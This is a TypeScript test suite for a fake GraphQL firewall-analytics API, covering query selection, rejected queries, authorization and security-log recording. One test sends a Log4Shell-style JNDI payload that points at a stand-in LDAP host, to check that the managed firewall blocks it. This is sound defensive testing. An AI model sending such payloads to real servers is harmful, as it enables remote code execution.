/** The fake GraphQL Analytics API: what the data plane records, what a query selects, and every rejection of a wrong query. */
import { afterAll, beforeEach, describe, expect, test } from "vitest";
import { type Api, apiToken, permissions, startApi } from "./api.ts";
import { createAuthority } from "./authority.ts";
import { analyticsPermission, limits } from "./graphql.ts";
import { custom, githost, here, name, start, visit, zoneWith } from "./loopback.ts";
import { type Row, securityLog } from "./security-log.ts";
import { emptyZone, type ZoneState } from "./zone.ts";

const authority = await createAuthority("test CA");
const api: Api = await startApi({ zone: emptyZone("example.org", "free"), authority });
afterAll(async () => {
  await api.close();
  await authority.close();
});

const hour = 3_600_000;
const ago = (ms: number): string => new Date(Date.now() - ms).toISOString();
const row = (change: Partial<Row>): Row => ({
  ...{ action: "block", source: "bic", ruleId: "bic", rulesetId: "", description: "", kind: "firewall", matchIndex: 0 },
  ...{ rayName: "a".repeat(16), datetime: ago(hour), clientIP: "192.0.2.1", userAgent: "" },
  ...{ clientRequestHTTPHost: "", clientRequestHTTPMethodName: "POST", clientRequestPath: "/", clientRequestQuery: "" },
  ...change,
});
beforeEach(() => {
  api.tokens[apiToken] = [analyticsPermission];
  api.zone.plan = "free";
  securityLog(api.zone).splice(0, 99, row({}), row({ source: "ip", rayName: "b".repeat(16), datetime: ago(hour / 2) }));
});

type Told = { status: number; data: unknown; errors: { message: string; path: string[]; extensions: object }[] | null };
async function post(query: unknown, variables?: object, token = apiToken): Promise<Told> {
  const headers = { authorization: `Bearer ${token}`, "content-type": "application/json" };
  const response = await fetch(`${api.url}/graphql`, {
    method: "POST",
    headers,
    body: JSON.stringify({ query, variables }),
  });
  return { status: response.status, ...((await response.json()) as Omit<Told, "status">) };
}
const whole = `datetime_geq: "${ago(20 * hour)}", datetime_leq: "${ago(0)}"`;
/** One query of the data set; `more` replaces its parts. */
const events = (more: { zone?: string; filter?: string; limit?: string; order?: string; fields?: string } = {}) => {
  const {
    zone = api.zone.id,
    filter = whole,
    limit = "limit: 10",
    order = "orderBy: [datetime_DESC]",
    fields = "source",
  } = more;
  return `{ viewer { zones(filter: { zoneTag: "${zone}" }) {
    firewallEventsAdaptive(filter: { ${filter} }, ${limit} ${order}) { ${fields} } } } }`;
};
const selected = async (...query: Parameters<typeof post>): Promise<unknown> => {
  const { status, data, errors } = await post(...query);
  expect([status, errors]).toEqual([200, null]);
  return (data as { viewer: { zones: unknown[] } }).viewer.zones[0];
};

describe("a query", () => {
  test("selects fields by name or alias, newest first, as many as the limit says", async () => {
    expect(await selected(events())).toEqual({ firewallEventsAdaptive: [{ source: "ip" }, { source: "bic" }] });
    expect(await selected(events({ limit: "limit: 1", order: "", fields: "from: source, ruleId" }))).toEqual({
      firewallEventsAdaptive: [{ from: "bic", ruleId: "bic" }],
    });
  });
  test("filters by any column and by time, with variables", async () => {
    const query = `query Events($zone: string!, $ray: string!, $from: Time!, $to: Time!) { viewer { zones(filter: {zoneTag: $zone}) {
      firewallEventsAdaptive(filter: {rayName: $ray, datetime_geq: $from, datetime_leq: $to}, limit: 1) { source } } } }`;
    const variables = { zone: api.zone.id, ray: "b".repeat(16), from: ago(hour), to: ago(0) };
    expect(await selected(query, variables)).toEqual({ firewallEventsAdaptive: [{ source: "ip" }] });
    expect(await selected(query, { ...variables, to: ago(hour * 0.7) })).toEqual({ firewallEventsAdaptive: [] });
    const several = query.replace("$ray: string!", "$ray: [string!]!").replace("rayName: $ray", "rayName_in: $ray");
    expect(await selected(several, { ...variables, ray: ["b".repeat(16), "c"] })).toEqual({
      firewallEventsAdaptive: [{ source: "ip" }],
    });
  });
  test("reads the plan's limits", async () => {
    const query = `{ viewer { zones(filter: {zoneTag: "${api.zone.id}"}) { settings { firewallEventsAdaptive { enabled maxDuration notOlderThan } } } } }`;
    expect(await selected(query)).toEqual({ settings: { firewallEventsAdaptive: { enabled: true, ...limits.free } } });
  });
});

describe("rejected", () => {
  const wide = `datetime_geq: "${ago(25 * hour)}", datetime_leq: "${ago(0)}"`;
  const old = `datetime_geq: "${ago(15 * 24 * hour)}", datetime_leq: "${ago(15 * 24 * hour - hour)}"`;
  test.each<[string, number, RegExp, string, object?]>([
    ["no limit", 400, /^limit must be positive number and not greater than 10000$/, events({ limit: "" })],
    ["a limit of zero", 400, /^limit must be positive/, events({ limit: "limit: 0" })],
    ["a limit beyond a page", 400, /^limit must be positive/, events({ limit: "limit: 10001" })],
    ["an unknown field", 400, /^unknown field "ref"$/, events({ fields: "source ref" })],
    ["an unknown data set", 400, /^unknown field "firewallEvents"$/, events().replace("Adaptive(", "(")],
    [
      "an unknown column of the filter",
      400,
      /unknown field "ray" of the filter/,
      events({ filter: `ray: "a", ${whole}` }),
    ],
    ["an unknown argument", 400, /unknown argument "first"/, events({ limit: "first: 1, limit: 1" })],
    ["an unknown order", 400, /unknown order/, events({ order: "orderBy: [time_DESC]" })],
    ["a field of a field", 400, /^scalar fields must have no selections$/, events({ fields: "source { name }" })],
    ["no field", 400, /^query contains error/, events({ fields: "" })],
    ["a time that is none", 400, /cannot parse "yesterday" as Time/, events({ filter: 'datetime_geq: "yesterday"' })],
    ["no time range", 400, /cannot request a time range wider than 1d$/, events({ filter: 'rayName: "a"' })],
    ["a range wider than the plan's", 400, /cannot request a time range wider than 1d$/, events({ filter: wide })],
    ["a time before the plan's", 400, /^cannot request data older than 1209600s$/, events({ filter: old })],
    ["another zone", 403, /^zones \[0123\] are not authorized$/, events({ zone: "0123" })],
    ["no zone", 400, /zoneTag is required/, "{ viewer { zones { settings { firewallEventsAdaptive { enabled } } } } }"],
    ["another root", 400, /^unknown field "zones"$/, "{ zones { id } }"],
    ["a bracket less", 400, /^query contains error/, events().slice(0, -1)],
    ["a text after the query", 400, /^query contains error/, `${events()} }`],
    ["a variable that is not declared", 400, /"\$a" is not declared/, events({ limit: "limit: $a" })],
    ["a variable that is not given", 400, /"\$a" is required/, `query ($a: string!) ${events()}`],
    ["a variable that the query has not", 400, /"a" is not declared/, events(), { a: 1 }],
    ["a variable of an unknown type", 400, /unknown type "Text"/, `query ($a: Text) ${events()}`],
    ["a list that is none", 400, /"\$a" is no list/, `query ($a: [string!]!) ${events()}`, { a: "x" }],
    ["no query", 400, /^query contains error/, ""],
  ])("%s", async (_, status, says, query, variables) => {
    const told = await post(query, variables);
    expect([told.status, told.data]).toEqual([status, null]);
    expect(told.errors![0]!.message).toMatch(says);
    expect(Object.keys(told.errors![0]!)).toEqual(["message", "path", "extensions"]);
  });
  test("a token without the permission, whatever else it has, and a wrong token", async () => {
    api.tokens[apiToken] = permissions;
    expect(await post(events())).toMatchObject({
      status: 403,
      errors: [{ message: expect.stringContaining("not authorized") }],
    });
    expect(await post(events(), {}, "x".repeat(40))).toMatchObject({ status: 401 });
  });
});

describe("the data plane records", () => {
  const log = async (zone: ZoneState, change: Parameters<typeof visit>[1] = {}) => {
    await using edge = await start(zone);
    const { headers } = await visit(edge, change);
    return { ray: String(headers["cf-ray"]), rows: securityLog(zone) };
  };
  test("a block by its rule, under the ray of the answer without the data centre", async () => {
    const zone = zoneWith(custom({ ref: "rest", action: "block", expression: here, description: "nothing else" }));
    const { ray, rows } = await log(zone, { path: "/webhook/site?a=1" });
    const [ruleset] = zone.rulesets.filter(({ phase }) => phase === "http_request_firewall_custom");
    expect(rows).toMatchObject([
      {
        ...{ action: "block", source: "firewallCustom", ruleId: ruleset!.rules[0]!.id, rulesetId: ruleset!.id },
        ...{ description: "nothing else", rayName: ray.split("-")[0], clientIP: githost, matchIndex: 0 },
        ...{ clientRequestHTTPHost: name, clientRequestPath: "/webhook/site", clientRequestQuery: "?a=1" },
      },
    ]);
  });
  test("a logged skip before what decided, and a skip alone for a delivery that passes", async () => {
    const zone = zoneWith();
    zone.access_rules = [];
    expect((await log(zone)).rows).toMatchObject([{ action: "skip", matchIndex: 0 }]);
    zone.plan = "free";
    zone.bot_management.fight_mode = true;
    expect((await log(zone)).rows.slice(1)).toMatchObject([
      { action: "skip", source: "firewallCustom", matchIndex: 1 },
      { action: "managed_challenge", source: "botFight", ruleId: "bot_fight_mode", matchIndex: 0 },
    ]);
  });
  test("an IP Access rule by its id and target, and a payload that looks like an attack", async () => {
    const zone = zoneWith(custom());
    zone.access_rules = [{ id: "a1", notes: "", mode: "challenge", configuration: { target: "ip", value: githost! } }];
    expect((await log(zone)).rows).toMatchObject([{ action: "challenge", source: "ip", ruleId: "a1" }]);
    zone.access_rules = [];
    const body = '{"message":"log ${jndi:ldap://example.net/a}"}';
    expect((await log(zone, { body })).rows[1]).toMatchObject({ action: "block", source: "firewallManaged" });
  });
  test("nothing for a name that the zone has not, and no more than a page", async () => {
    const zone = zoneWith(custom());
    expect((await log(zone, { headers: { host: "nothing.example.org" } })).rows).toEqual([]);
    const rows = securityLog(zone);
    for (let n = 0; n < 10_000; n++) rows.push(row({ matchIndex: n }));
    zone.access_rules = [{ id: "a1", notes: "", mode: "block", configuration: { target: "ip", value: githost! } }];
    await log(zone);
    expect([rows.length, rows[0]!.matchIndex, rows.at(-1)!.ruleId]).toEqual([10_000, 1, "a1"]);
  });
});
